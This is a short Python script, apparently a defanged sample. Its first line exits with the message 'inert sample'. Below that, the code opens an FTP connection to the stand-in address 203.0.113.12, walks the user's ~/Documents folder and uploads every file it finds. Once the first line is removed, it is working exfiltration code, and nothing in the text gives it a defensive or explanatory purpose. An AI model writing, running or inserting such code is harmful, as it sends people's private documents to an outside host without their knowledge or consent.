raise SystemExit("inert sample")
import ftplib
import os

link = ftplib.FTP("203.0.113.12")
for folder, _, names in os.walk(os.path.expanduser("~/Documents")):
    for name in names:
        link.storbinary("STOR " + name, open(os.path.join(folder, name), "rb"))
